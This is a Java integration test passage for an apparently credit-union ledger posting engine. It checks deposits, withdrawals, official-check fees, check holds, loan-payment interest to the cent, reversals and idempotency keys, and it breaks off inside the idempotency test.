package coop.tally.posting;

import coop.tally.support.ScenarioSteps;
import coop.tally.support.Api;
import coop.tally.support.TallyDeployment;
import jakarta.json.Json;
import jakarta.json.JsonObject;
import jakarta.json.JsonObjectBuilder;
import jakarta.json.JsonValue;
import org.jboss.arquillian.container.test.api.Deployment;
import org.jboss.arquillian.container.test.api.RunAsClient;
import org.jboss.arquillian.junit5.ArquillianExtension;
import org.jboss.arquillian.test.api.ArquillianResource;
import org.jboss.shrinkwrap.api.spec.WebArchive;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestMethodOrder;
import org.junit.jupiter.api.extension.ExtendWith;

import java.io.ByteArrayInputStream;
import java.math.BigDecimal;
import java.math.RoundingMode;
import java.net.URL;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.LocalDate;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.function.UnaryOperator;

import static coop.tally.posting.Teller.both;
import static coop.tally.posting.Teller.balances;
import static coop.tally.posting.Teller.cents;
import static coop.tally.posting.Teller.entryId;
import static coop.tally.posting.Teller.lines;
import static coop.tally.posting.Teller.money;
import static coop.tally.posting.Teller.numberOf;
import static coop.tally.posting.Teller.request;
import static org.junit.jupiter.api.Assertions.assertAll;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * The posting engine over HTTP against the deployed WAR: every posting type and tender with its
 * journal lines and balances to the cent, check holds and their release, loan payments against a
 * hand-computed schedule, reversals, idempotency, every refusal and a table of bad input. After every
 * test the ledger's invariants must hold.
 */
@ExtendWith(ArquillianExtension.class)
@ExtendWith(ScenarioSteps.class)
@RunAsClient
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class PostingIT {

    private static final BigDecimal DAYS_IN_YEAR = new BigDecimal("365");

    @Deployment(testable = false)
    static WebArchive deployment() {
        return TallyDeployment.shippedWar();
    }

    @ArquillianResource
    URL deployment;

    private static URL signedInAt;

    /** Shared by the tests of this class so that each claims members no other test uses. */
    private static Teller teller;

    @BeforeEach
    void signIn() {
        // a rerun of the class gets a new server on another port: sign in again there
        if (teller == null || !deployment.equals(signedInAt)) {
            signedInAt = deployment;
            teller = new Teller(deployment);
        }
    }

    @AfterEach
    void ledgerInvariantsHold() {
        teller.assertLedgerHolds();
    }

    // =================================================================== deposits, withdrawals, transfers

    @Test
    @Order(10)
    void deposits_of_each_tender_debit_the_right_gl_and_credit_the_member() {
        JsonObject member = teller.claimActiveMember("deposits", "10.00");
        String share = numberOf(member, "SHARE", "ACTIVE");
        String draft = numberOf(member, "SHARE_DRAFT", "ACTIVE");
        BigDecimal draftLedger = teller.ledger(draft);
        BigDecimal draftAvailable = teller.available(draft);
        BigDecimal shareLedger = teller.ledger(share);
        BigDecimal shareAvailable = teller.available(share);
        String businessDate = teller.businessDate();

        JsonObject cash = teller.posted(teller.rep1, request("DEPOSIT").add("tender", "CASH").add("toAccount", draft)
                .add("amount", "150.25").add("memo", "cash at the branch"));
        JsonObject entry = cash.getJsonObject("entry");
        assertEquals("DEPOSIT", entry.getString("type"));
        assertEquals("rep1", entry.getString("postedBy"));
        assertEquals(businessDate, entry.getString("businessDate"));
        assertEquals("cash at the branch", entry.getString("memo"));
        assertEquals(List.of(Drawers.gl(teller.rep1) + " DEBIT 150.25", draft + " CREDIT 150.25"), lines(cash));
        draftLedger = draftLedger.add(new BigDecimal("150.25"));
        draftAvailable = draftAvailable.add(new BigDecimal("150.25"));
        assertEquals(Map.of(draft, both(draftLedger, draftAvailable)), balances(cash));
        assertFalse(cash.containsKey("holds"), "cash is available at once");

        Api.Reply fetched = teller.rep1.get("api/transactions/" + entryId(cash));
        assertEquals(200, fetched.status(), fetched.toString());
        assertEquals(entry, fetched.json(), "the stored entry is the one answered");

        JsonObject internal = teller.posted(teller.rep1, request("DEPOSIT").add("tender", "INTERNAL").add("toAccount", share)
                .add("amount", "20.00"));
        assertEquals(List.of("2900 DEBIT 20.00", share + " CREDIT 20.00"), lines(internal));
        shareLedger = shareLedger.add(new BigDecimal("20.00"));
        shareAvailable = shareAvailable.add(new BigDecimal("20.00"));
        assertEquals(Map.of(share, both(shareLedger, shareAvailable)), balances(internal));

        // a check of exactly 275.00 is available at once: no hold
        JsonObject smallCheck = teller.posted(teller.super1, request("DEPOSIT").add("tender", "CHECK").add("toAccount", draft)
                .add("amount", "275.00"));
        assertEquals(List.of("1100 DEBIT 275.00", draft + " CREDIT 275.00"), lines(smallCheck));
        draftLedger = draftLedger.add(new BigDecimal("275.00"));
        draftAvailable = draftAvailable.add(new BigDecimal("275.00"));
        assertEquals(Map.of(draft, both(draftLedger, draftAvailable)), balances(smallCheck));
        assertFalse(smallCheck.containsKey("holds"), smallCheck.toString());

        // one cent more: 275.00 available, 0.01 held for two business days
        JsonObject checkOverLimit = teller.posted(teller.rep1, request("DEPOSIT").add("tender", "CHECK").add("toAccount", share)
                .add("amount", "275.01"));
        assertEquals(List.of("1100 DEBIT 275.01", share + " CREDIT 275.01"), lines(checkOverLimit));
        shareLedger = shareLedger.add(new BigDecimal("275.01"));
        shareAvailable = shareAvailable.add(new BigDecimal("275.00"));
        assertEquals(Map.of(share, both(shareLedger, shareAvailable)), balances(checkOverLimit));
        List<JsonObject> holds = checkOverLimit.getJsonArray("holds").getValuesAs(JsonObject.class);
        assertEquals(1, holds.size(), holds.toString());
        assertEquals("0.01", holds.get(0).getString("amount"));
        assertEquals(businessDate, holds.get(0).getString("placedOn"));
        assertTrue(LocalDate.parse(holds.get(0).getString("releaseOn")).isAfter(LocalDate.parse(businessDate)));

        assertEquals(both(draftLedger, draftAvailable), teller.snapshot(draft).get(draft), "member file agrees");
        assertEquals(both(shareLedger, shareAvailable), teller.snapshot(share).get(share), "member file agrees");
    }

    @Test
    @Order(11)
    void withdrawals_and_transfers_move_exactly_the_amount() {
        JsonObject member = teller.claimActiveMember("withdrawals", "150.00");
        String share = numberOf(member, "SHARE", "ACTIVE");
        String draft = numberOf(member, "SHARE_DRAFT", "ACTIVE");
        String otherMembersDraft = numberOf(teller.claimActiveMember("transfer to another member", "0.00"),
                "SHARE_DRAFT", "ACTIVE");
        BigDecimal draftBalance = teller.ledger(draft);
        BigDecimal shareBalance = teller.ledger(share);
        BigDecimal otherBalance = teller.ledger(otherMembersDraft);
        assertEquals(draftBalance, teller.available(draft), "no holds on a demo account");

        JsonObject cash = teller.posted(teller.rep1, request("WITHDRAWAL").add("tender", "CASH").add("fromAccount", draft)
                .add("amount", "60.00"));
        assertEquals("WITHDRAWAL", cash.getJsonObject("entry").getString("type"));
        assertEquals(List.of(draft + " DEBIT 60.00", Drawers.gl(teller.rep1) + " CREDIT 60.00"), lines(cash));
        draftBalance = draftBalance.subtract(new BigDecimal("60.00"));
        assertEquals(Map.of(draft, both(draftBalance, draftBalance)), balances(cash));

        JsonObject byCheck = teller.posted(teller.rep1, request("WITHDRAWAL").add("tender", "OFFICIAL_CHECK")
                .add("fromAccount", draft).add("amount", "40.50"));
        assertEquals(List.of(draft + " DEBIT 40.50", "2100 CREDIT 40.50"), lines(byCheck));
        draftBalance = draftBalance.subtract(new BigDecimal("40.50"));
        assertEquals(Map.of(draft, both(draftBalance, draftBalance)), balances(byCheck));

        JsonObject own = teller.posted(teller.rep1, request("TRANSFER").add("fromAccount", draft).add("toAccount", share)
                .add("amount", "25.00"));
        assertEquals("TRANSFER", own.getJsonObject("entry").getString("type"));
        assertEquals(List.of(draft + " DEBIT 25.00", share + " CREDIT 25.00"), lines(own));
        draftBalance = draftBalance.subtract(new BigDecimal("25.00"));
        shareBalance = shareBalance.add(new BigDecimal("25.00"));
        assertEquals(Map.of(draft, both(draftBalance, draftBalance), share, both(shareBalance, shareBalance)), balances(own));

        JsonObject toOther = teller.posted(teller.super1, request("TRANSFER").add("tender", "ACCOUNT").add("fromAccount", share)
                .add("toAccount", otherMembersDraft).add("amount", "10.01"));
        assertEquals(List.of(share + " DEBIT 10.01", otherMembersDraft + " CREDIT 10.01"), lines(toOther));
        shareBalance = shareBalance.subtract(new BigDecimal("10.01"));
        otherBalance = otherBalance.add(new BigDecimal("10.01"));
        assertEquals(Map.of(share, both(shareBalance, shareBalance), otherMembersDraft, both(otherBalance, otherBalance)),
                balances(toOther));

        assertEquals(Map.of(draft, both(draftBalance, draftBalance), share, both(shareBalance, shareBalance),
                otherMembersDraft, both(otherBalance, otherBalance)), teller.snapshot(draft, share, otherMembersDraft));
    }

    @Test
    @Order(12)
    void official_checks_carry_their_fee_whether_bought_from_an_account_or_with_cash() {
        JsonObject member = teller.claimActiveMember("official checks", "200.00");
        String draft = numberOf(member, "SHARE_DRAFT", "ACTIVE");
        BigDecimal balance = teller.ledger(draft);

        // money order from the account: member pays 100.00 + 5.00 fee
        JsonObject moneyOrder = teller.posted(teller.rep1, request("OFFICIAL_CHECK").add("tender", "ACCOUNT")
                .add("fromAccount", draft).add("instrument", "MONEY_ORDER").add("amount", "100.00"));
        assertEquals("OFFICIAL_CHECK", moneyOrder.getJsonObject("entry").getString("type"));
        assertEquals(List.of(draft + " DEBIT 105.00", "2100 CREDIT 100.00", "4100 CREDIT 5.00"), lines(moneyOrder));
        balance = balance.subtract(new BigDecimal("105.00"));
        assertEquals(Map.of(draft, both(balance, balance)), balances(moneyOrder));

        // cashier's check from the account, the client stating the scheduled fee: 50.00 + 10.00
        JsonObject cashiers = teller.posted(teller.rep1, request("OFFICIAL_CHECK").add("tender", "ACCOUNT")
                .add("fromAccount", draft).add("instrument", "CASHIERS_CHECK").add("amount", "50.00").add("fee", "10.00"));
        assertEquals(List.of(draft + " DEBIT 60.00", "2100 CREDIT 50.00", "4100 CREDIT 10.00"), lines(cashiers));
        balance = balance.subtract(new BigDecimal("60.00"));
        assertEquals(Map.of(draft, both(balance, balance)), balances(cashiers));

        // bought with cash: the drawer takes amount + fee, no member account moves
        JsonObject cashiersForCash = teller.posted(teller.rep1, request("OFFICIAL_CHECK").add("tender", "CASH")
                .add("instrument", "CASHIERS_CHECK").add("amount", "2000.00"));
        assertEquals(List.of(Drawers.gl(teller.rep1) + " DEBIT 2010.00", "2100 CREDIT 2000.00", "4100 CREDIT 10.00"), lines(cashiersForCash));
        assertEquals(Map.of(), balances(cashiersForCash));
        JsonObject moneyOrderForCash = teller.posted(teller.rep1, request("OFFICIAL_CHECK").add("tender", "CASH")
                .add("instrument", "MONEY_ORDER").add("amount", "25.00"));
        assertEquals(List.of(Drawers.gl(teller.rep1) + " DEBIT 30.00", "2100 CREDIT 25.00", "4100 CREDIT 5.00"), lines(moneyOrderForCash));

        // a supervisor may waive the fee: no fee line, the member pays the face value only
        JsonObject waived = teller.posted(teller.super1, request("OFFICIAL_CHECK").add("tender", "ACCOUNT")
                .add("fromAccount", draft).add("instrument", "MONEY_ORDER").add("amount", "20.00").add("feeWaived", true));
        assertEquals(List.of(draft + " DEBIT 20.00", "2100 CREDIT 20.00"), lines(waived));
        balance = balance.subtract(new BigDecimal("20.00"));
        assertEquals(Map.of(draft, both(balance, balance)), balances(waived));

        assertEquals(both(balance, balance), teller.snapshot(draft).get(draft));
    }

    @Test
    @Order(13)
    void check_deposit_holds_are_released_on_their_business_date_and_not_before() {
        JsonObject member = teller.claimActiveMember("check holds", "0.00");
        String draft = numberOf(member, "SHARE_DRAFT", "ACTIVE");
        BigDecimal ledger = teller.ledger(draft);
        BigDecimal available = teller.available(draft);
        String depositedOn = teller.businessDate();

        // 7,000.00: 275.00 at once; 6,725.00 - 275.00 = 6,450.00 for 2 business days; 7,000.00 - 6,725.00 = 275.00 for 7
        JsonObject deposit = teller.posted(teller.rep1, request("DEPOSIT").add("tender", "CHECK").add("toAccount", draft)
                .add("amount", "7000.00"));
        assertEquals(List.of("1100 DEBIT 7000.00", draft + " CREDIT 7000.00"), lines(deposit));
        BigDecimal ledgerAfter = ledger.add(new BigDecimal("7000.00"));
        BigDecimal availableNow = available.add(new BigDecimal("275.00"));
        assertEquals(Map.of(draft, both(ledgerAfter, availableNow)), balances(deposit));
        List<JsonObject> holds = deposit.getJsonArray("holds").getValuesAs(JsonObject.class);
        assertEquals(2, holds.size(), holds.toString());
        assertEquals("6450.00", holds.get(0).getString("amount"));
        assertEquals("275.00", holds.get(1).getString("amount"));
        holds.forEach(hold -> assertEquals(depositedOn, hold.getString("placedOn")));
        String shortRelease = holds.get(0).getString("releaseOn");
        String longRelease = holds.get(1).getString("releaseOn");

        JsonObject history = teller.super1.get("api/accounts/" + draft + "/history?page=0&size=5").json();
        assertEquals(2, history.getJsonArray("holds").size(), history.toString());
        assertEquals(entryId(deposit), history.getJsonArray("entries").getJsonObject(0).getJsonNumber("id").longValue(),
                "newest first");

        // open business days one at a time; the available balance rises exactly on each release date
        BigDecimal expectedAvailable = availableNow;
        List<String> days = new ArrayList<>();
        while (!teller.businessDate().equals(longRelease)) {
            assertTrue(days.size() < 7, "the long hold is released by the 7th business day: " + days);
            String day = teller.advanceBusinessDate();
            days.add(day);
            if (day.equals(shortRelease)) {
                expectedAvailable = expectedAvailable.add(new BigDecimal("6450.00"));
            }
            if (day.equals(longRelease)) {
                expectedAvailable = expectedAvailable.add(new BigDecimal("275.00"));
            }
            assertEquals(both(ledgerAfter, expectedAvailable), teller.snapshot(draft).get(draft), "on " + day);
        }
        assertEquals(shortRelease, days.get(1), "the standard hold ends on the 2nd business day: " + days);
        assertEquals(7, days.size(), "the large-deposit hold ends on the 7th business day: " + days);
        assertEquals(both(ledgerAfter, ledgerAfter), teller.snapshot(draft).get(draft), "all of it available");
        JsonObject after = teller.super1.get("api/accounts/" + draft + "/history").json();
        assertEquals(0, after.getJsonArray("holds").size(), after.toString());
        for (String day : days) {
            LocalDate date = LocalDate.parse(day);
            assertFalse(date.getDayOfWeek().getValue() >= 6, "a business day is never a weekend: " + day);
        }
    }

    // =================================================================== loans

    /**
     * 100001-L01, the showcase loan: 12,500.00 at 6.50 %, interest paid to 20 days before the first
     * business date. Interest is principal × rate × days / 365, half-up to the cent.
     */
    @Test
    @Order(1)
    void loan_payments_follow_the_hand_computed_schedule_to_the_payoff() {
        String loan = "100001-L01";
        String payer = "100001-S10";
        JsonObject terms = teller.account(loan);
        assertEquals("12500.00", terms.getString("ledgerBalance"));
        BigDecimal rate = new BigDecimal(terms.getString("annualRate"));
        assertEquals(0, rate.compareTo(new BigDecimal("0.065")), terms.toString());
        assertEquals("0.00", terms.getString("lateFeesDue"));
        LocalDate interestPaidTo = LocalDate.parse(terms.getString("interestPaidTo"));
        LocalDate day0 = LocalDate.parse(teller.businessDate());
        long days0 = ChronoUnit.DAYS.between(interestPaidTo, day0);

        // on time. With the demo's 20 days: 12,500.00 × 0.065 × 20 / 365 = 16,250 / 365 = 44.5205… → 44.52
        BigDecimal interest1 = interest("12500.00", rate, days0);
        if (days0 == 20) {
            assertEquals("44.52", cents(interest1));
        }
        JsonObject quote0 = payoff(loan, day0);
        assertEquals("12500.00", quote0.getString("principal"));
        assertEquals(cents(interest1), quote0.getString("interest"));
        assertEquals("0.00", quote0.getString("lateFees"));
        assertEquals(cents(new BigDecimal("12500.00").add(interest1)), quote0.getString("payoff"));

        // payment of 500.00 from the share draft: 44.52 interest, 500.00 − 44.52 = 455.48 principal,
        // leaving 12,500.00 − 455.48 = 12,044.52
        BigDecimal payerBalance = teller.ledger(payer);
        JsonObject first = teller.posted(teller.rep1, request("LOAN_PAYMENT").add("tender", "ACCOUNT")
                .add("fromAccount", payer).add("loanAccount", loan).add("amount", "500.00"));
        BigDecimal principal1 = new BigDecimal("500.00").subtract(interest1);
        BigDecimal balance1 = new BigDecimal("12500.00").subtract(principal1);
        assertEquals("LOAN_PAYMENT", first.getJsonObject("entry").getString("type"));
        assertEquals(List.of(payer + " DEBIT 500.00", loan + " CREDIT " + cents(principal1), "4000 CREDIT " + cents(interest1)),
                lines(first));
        assertEquals(allocation(interest1, principal1, BigDecimal.ZERO, day0), first.getJsonObject("loanAllocation"));
        payerBalance = payerBalance.subtract(new BigDecimal("500.00"));
        assertEquals(Map.of(payer, both(payerBalance, payerBalance), loan, both(balance1, balance1)), balances(first));
        JsonObject quoteAfterFirst = payoff(loan, day0);
        assertEquals("0.00", quoteAfterFirst.getString("interest"), "interest is paid to today");
        assertEquals(day0.toString(), quoteAfterFirst.getString("interestPaidTo"));
        assertEquals(cents(balance1), quoteAfterFirst.getString("payoff"));

        // late: three business days later interest has run for the calendar days in between, e.g. for
        // 3 days 12,044.52 × 0.065 × 3 / 365 = 6.4348… → 6.43 (over a weekend 5 days: 10.7247… → 10.72)
        teller.advanceBusinessDate();
        teller.advanceBusinessDate();
        LocalDate day1 = LocalDate.parse(teller.advanceBusinessDate());
        long days1 = ChronoUnit.DAYS.between(day0, day1);
        assertTrue(days1 >= 3, day0 + " → " + day1);
        BigDecimal interest2 = interest(cents(balance1), rate, days1);
        assertTrue(interest2.signum() > 0, "more interest after waiting");
        assertEquals(cents(interest2), payoff(loan, day1).getString("interest"));

        // 200.00 in cash: interest first, the rest to principal
        JsonObject second = teller.posted(teller.super1, request("LOAN_PAYMENT").add("tender", "CASH")
                .add("loanAccount", loan).add("amount", "200.00"));
        BigDecimal principal2 = new BigDecimal("200.00").subtract(interest2);
        BigDecimal balance2 = balance1.subtract(principal2);
        assertEquals(List.of(Drawers.gl(teller.super1) + " DEBIT 200.00", loan + " CREDIT " + cents(principal2), "4000 CREDIT " + cents(interest2)),
                lines(second));
        assertEquals(allocation(interest2, principal2, BigDecimal.ZERO, day1), second.getJsonObject("loanAllocation"));
        assertEquals(Map.of(loan, both(balance2, balance2)), balances(second));

        // a quote 30 days ahead: balance2 × 0.065 × 30 / 365
        JsonObject ahead = payoff(loan, day1.plusDays(30));
        assertEquals(cents(interest(cents(balance2), rate, 30)), ahead.getString("interest"));
        assertEquals(cents(balance2.add(interest(cents(balance2), rate, 30))), ahead.getString("payoff"));

        // one cent above today's payoff is refused, quoting the payoff
        JsonObject quote = payoff(loan, day1);
        assertEquals(cents(balance2), quote.getString("payoff"));
        int entriesBefore = teller.entries();
        Api.Reply over = teller.post(teller.super1, request("LOAN_PAYMENT").add("tender", "CASH").add("loanAccount", loan)
                .add("amount", cents(balance2.add(new BigDecimal("0.01")))));
        assertEquals(422, over.status(), over.toString());
        assertEquals("PAYMENT_EXCEEDS_PAYOFF", over.code());
        assertEquals(cents(balance2), over.json().getString("payoff"));
        assertEquals(day1.toString(), over.json().getString("asOf"));
        assertEquals(entriesBefore, teller.entries(), "nothing posted");
        assertEquals(cents(balance2), teller.account(loan).getString("ledgerBalance"));

        // exactly the payoff pays the loan off
        JsonObject payoff = teller.posted(teller.super1, request("LOAN_PAYMENT").add("tender", "CASH").add("loanAccount", loan)
                .add("amount", quote.getString("payoff")));
        assertEquals(List.of(Drawers.gl(teller.super1) + " DEBIT " + cents(balance2), loan + " CREDIT " + cents(balance2)), lines(payoff));
        assertEquals(Map.of(loan, "0.00/0.00"), balances(payoff));
        JsonObject paidOff = payoff(loan, day1);
        assertEquals("0.00", paidOff.getString("principal"));
        assertEquals("0.00", paidOff.getString("payoff"));
        Api.Reply afterPayoff = teller.post(teller.super1, request("LOAN_PAYMENT").add("tender", "CASH").add("loanAccount", loan)
                .add("amount", "0.01"));
        assertEquals("PAYMENT_EXCEEDS_PAYOFF", afterPayoff.code(), afterPayoff.toString());
        assertEquals("0.00", afterPayoff.json().getString("payoff"));
    }

    @Test
    @Order(14)
    void late_fees_are_paid_last_and_collected_by_the_payoff() {
        JsonObject member = teller.claimMember("a loan with late fees due", candidate ->
                "ACTIVE".equals(candidate.getString("status"))
                        && Teller.accountOf(candidate, "LOAN", "ACTIVE")
                        .filter(loan -> money(loan.getString("lateFeesDue")).signum() > 0).isPresent());
        String loan = numberOf(member, "LOAN", "ACTIVE");
        JsonObject terms = teller.account(loan);
        BigDecimal principal = money(terms.getString("ledgerBalance"));
        BigDecimal rate = new BigDecimal(terms.getString("annualRate"));
        BigDecimal lateFees = money(terms.getString("lateFeesDue"));
        LocalDate today = LocalDate.parse(teller.businessDate());
        BigDecimal interest = interest(cents(principal), rate,
                ChronoUnit.DAYS.between(LocalDate.parse(terms.getString("interestPaidTo")), today));
        JsonObject quote = payoff(loan, today);
        assertEquals(cents(lateFees), quote.getString("lateFees"));
        assertEquals(cents(principal.add(interest).add(lateFees)), quote.getString("payoff"));

        // interest + 1.00: the 1.00 goes to principal, nothing to the late fee
        BigDecimal amount = interest.add(new BigDecimal("1.00"));
        JsonObject partial = teller.posted(teller.rep1, request("LOAN_PAYMENT").add("tender", "CASH").add("loanAccount", loan)
                .add("amount", cents(amount)));
        assertEquals(allocation(interest, new BigDecimal("1.00"), BigDecimal.ZERO, today), partial.getJsonObject("loanAllocation"));
        BigDecimal rest = principal.subtract(new BigDecimal("1.00"));
        assertEquals(Map.of(loan, both(rest, rest)), balances(partial));
        assertEquals(cents(lateFees), teller.account(loan).getString("lateFeesDue"), "the fee is still due");

        // the payoff now: remaining principal + the late fee (interest is paid to today)
        JsonObject payoffQuote = payoff(loan, today);
        assertEquals(cents(rest.add(lateFees)), payoffQuote.getString("payoff"));
        JsonObject payoff = teller.posted(teller.rep1, request("LOAN_PAYMENT").add("tender", "CASH").add("loanAccount", loan)
                .add("amount", payoffQuote.getString("payoff")));
        assertEquals(List.of(Drawers.gl(teller.rep1) + " DEBIT " + cents(rest.add(lateFees)), loan + " CREDIT " + cents(rest),
                "4110 CREDIT " + cents(lateFees)), lines(payoff));
        assertEquals(allocation(BigDecimal.ZERO, rest, lateFees, today), payoff.getJsonObject("loanAllocation"));
        assertEquals("0.00", teller.account(loan).getString("lateFeesDue"));
        assertEquals("0.00", payoff(loan, today).getString("payoff"));
    }

    // =================================================================== reversals

    @Test
    @Order(20)
    void a_reversal_posts_the_exact_contra_entry_once_and_attributes_posting_errors() {
        JsonObject member = teller.claimActiveMember("reversal of a transfer", "60.00");
        String share = numberOf(member, "SHARE", "ACTIVE");
        String draft = numberOf(member, "SHARE_DRAFT", "ACTIVE");
        Map<String, String> before = teller.snapshot(share, draft);

        JsonObject transfer = teller.posted(teller.rep1, request("TRANSFER").add("fromAccount", draft).add("toAccount", share)
                .add("amount", "50.00"));
        long id = entryId(transfer);
        assertNotEquals(before, teller.snapshot(share, draft));

        Api.Reply byRep = teller.reverse(teller.rep1, id, "POSTING_ERROR", null);
        assertEquals(202, byRep.status(), "a rep's reversal waits for a supervisor: " + byRep);
        assertEquals("PENDING", byRep.json().getJsonObject("approval").getString("status"));

        Api.Reply reversed = teller.reverse(teller.super1, id, "POSTING_ERROR", "keyed the wrong way round");
        assertEquals(201, reversed.status(), reversed.toString());
        JsonObject reversal = reversed.json().getJsonObject("entry");
        assertEquals("REVERSAL", reversal.getString("type"));
        assertEquals(id, reversal.getJsonNumber("reverses").longValue());
        assertEquals("POSTING_ERROR", reversal.getString("reasonCode"));
        assertEquals("super1", reversal.getString("postedBy"));
        assertEquals("keyed the wrong way round", reversal.getString("memo"));
        assertEquals(List.of(draft + " CREDIT 50.00", share + " DEBIT 50.00"), lines(reversed.json()));
        assertEquals("rep1", reversed.json().getString("postingErrorAttributedTo"));
        assertEquals(before, balances(reversed.json()), "balances back where they were");
        assertEquals(before, teller.snapshot(share, draft));
        assertEquals(reversal.getJsonNumber("id").longValue(),
                teller.super1.get("api/transactions/" + id).json().getJsonNumber("reversedBy").longValue());

        int entries = teller.entries();
        Api.Reply again = teller.reverse(teller.super2, id, "DUPLICATE_POSTING", null);
        assertEquals(409, again.status(), again.toString());
        assertEquals("ALREADY_REVERSED", again.code());
        Api.Reply reversingTheReversal = teller.reverse(teller.super2, reversal.getJsonNumber("id").longValue(), "MEMBER_REQUEST", null);
        assertEquals(422, reversingTheReversal.status(), reversingTheReversal.toString());
        assertEquals("NOT_REVERSIBLE", reversingTheReversal.code());
        assertEquals("urn:tally:problem:not-reversible", reversingTheReversal.json().getString("type"),
                "the problem's type is Tally's own URI, not the entry's type");
        assertEquals(422, reversingTheReversal.json().getInt("status"));
        assertEquals("REVERSAL", reversingTheReversal.json().getString("entryType"));
        Api.Reply unknown = teller.reverse(teller.super1, 987_654_321L, "MEMBER_REQUEST", null);
        assertEquals(404, unknown.status(), unknown.toString());
        Api.Reply badReason = teller.super1.post("api/transactions/" + id + "/reversal", "{\"reasonCode\":\"OOPS\"}");
        assertEquals(400, badReason.status(), badReason.toString());
        assertEquals(entries, teller.entries(), "nothing more posted");
        assertEquals(before, teller.snapshot(share, draft));
    }

    @Test
    @Order(21)
    void reversing_a_check_deposit_takes_back_the_money_and_its_hold() {
        JsonObject member = teller.claimActiveMember("reversal of a check deposit", "0.00");
        String draft = numberOf(member, "SHARE_DRAFT", "ACTIVE");
        Map<String, String> before = teller.snapshot(draft);
        JsonObject deposit = teller.posted(teller.rep1, request("DEPOSIT").add("tender", "CHECK").add("toAccount", draft)
                .add("amount", "1000.00"));
        assertEquals("725.00", deposit.getJsonArray("holds").getJsonObject(0).getString("amount"));
        assertEquals(1, teller.super1.get("api/accounts/" + draft + "/history").json().getJsonArray("holds").size());

        Api.Reply reversed = teller.reverse(teller.super1, entryId(deposit), "RETURNED_ITEM", "check came back unpaid");
        assertEquals(201, reversed.status(), reversed.toString());
        assertEquals(List.of("1100 CREDIT 1000.00", draft + " DEBIT 1000.00"), lines(reversed.json()));
        assertFalse(reversed.json().containsKey("postingErrorAttributedTo"), "only POSTING_ERROR is attributed");
        assertEquals(before, balances(reversed.json()), "ledger and available back, the hold released");
        assertEquals(before, teller.snapshot(draft));
        JsonObject history = teller.super1.get("api/accounts/" + draft + "/history").json();
        assertEquals(0, history.getJsonArray("holds").size(), history.toString());
        List<JsonObject> entries = history.getJsonArray("entries").getValuesAs(JsonObject.class);
        assertEquals("REVERSAL", entries.get(0).getString("type"), "newest first");
        assertEquals(entryId(deposit), entries.get(0).getJsonNumber("reverses").longValue());
        assertEquals(entryId(deposit), entries.get(1).getJsonNumber("id").longValue());
    }

    @Test
    @Order(22)
    void reversing_a_loan_payment_restores_the_loan() {
        JsonObject member = teller.claimMember("reversal of a loan payment", candidate ->
                "ACTIVE".equals(candidate.getString("status")) && Teller.accountOf(candidate, "LOAN", "ACTIVE")
                        .filter(loan -> money(loan.getString("ledgerBalance")).compareTo(new BigDecimal("200.00")) > 0).isPresent());
        String loan = numberOf(member, "LOAN", "ACTIVE");
        LocalDate today = LocalDate.parse(teller.businessDate());
        JsonObject quoteBefore = payoff(loan, today);
        JsonObject loanBefore = teller.account(loan);
        BigDecimal interest = money(quoteBefore.getString("interest"));
        BigDecimal amount = interest.add(new BigDecimal("100.00"));

        JsonObject payment = teller.posted(teller.rep1, request("LOAN_PAYMENT").add("tender", "CASH").add("loanAccount", loan)
                .add("amount", cents(amount)));
        BigDecimal principalBefore = money(loanBefore.getString("ledgerBalance"));
        BigDecimal principalAfter = principalBefore.subtract(new BigDecimal("100.00"));
        assertEquals(Map.of(loan, both(principalAfter, principalAfter)), balances(payment));
        assertNotEquals(quoteBefore, payoff(loan, today));

        Api.Reply reversed = teller.reverse(teller.super1, entryId(payment), "MEMBER_REQUEST", null);
        assertEquals(201, reversed.status(), reversed.toString());
        List<String> expected = new ArrayList<>(List.of(Drawers.gl(teller.rep1) + " CREDIT " + cents(amount), loan + " DEBIT 100.00"));
        if (interest.signum() > 0) {
            expected.add("4000 DEBIT " + cents(interest));
        }
        assertEquals(expected, lines(reversed.json()));
        assertEquals(Map.of(loan, both(principalBefore, principalBefore)), balances(reversed.json()));
        assertEquals(quoteBefore, payoff(loan, today), "principal, interest, interest date and payoff all back");
        assertEquals(loanBefore, teller.account(loan));
    }

    // =================================================================== idempotency

    @Test
    @Order(30)
    void the_same_key_replays_the_first_answer_and_keys_are_per_staff_member() {
        JsonObject member = teller.claimActiveMember("idempotency", "0.00");
        String draft = numberOf(member, "SHARE_DRAFT", "ACTIVE");
        BigDecimal balance = teller.ledger(draft);
        String key = Teller.newKey();
        String body = request("DEPOSIT").add("tender", "CASH").add("toAccount", draft).add("amount", "12.34")
                .add("memo", "first").build().toString();
        int entries = teller.entries();

        Api.Reply first = teller.post(teller.rep1, key, body);
        assertEquals(201, first.status(), first.toString());
        assertNull(first.header("Idempotent-Replayed"));
        Api.Reply replay = teller.post(teller.rep1, key, body);
        assertEquals(201, replay.status(), replay.toString());
        assertEquals("true", replay.header("Idempotent-Replayed"));
        assertEquals(first.body(), replay.body(), "the first answer, byte for byte");
        // the same request written differently (field order, spacing) is the same request
        String reordered = "{ \"memo\": \"first\", \"amount\": \"12.34\", \"toAccount\": \"" + draft
                + "\", \"tender\": \"CASH\", \"type\": \"DEPOSIT\" }";
        Api.Reply replayReordered = teller.post(teller.rep1, key, reordered);
        assertEquals(201, replayReordered.status(), replayReordered.toString());
        assertEquals(first.body(), replayReordered.body());
        balance = balance.add(new BigDecimal("12.34"));
        assertEquals(entries + 1, teller.entries(), "posted once");
        assertEquals(cents(balance), teller.account(draft).getString("ledgerBalance"));

        for (String different : List.of(body.replace("12.34", "12.35"), body.replace("first", "second"),
                request("WITHDRAWAL").add("tender", "CASH").add("fromAccount", draft).add("amount", "12.34").add("memo", "first")
                        .build().toString())) {
            Api.Reply reused = teller.post(teller.rep1, key, different);
            assertEquals(409, reused.status(), reused.toString());
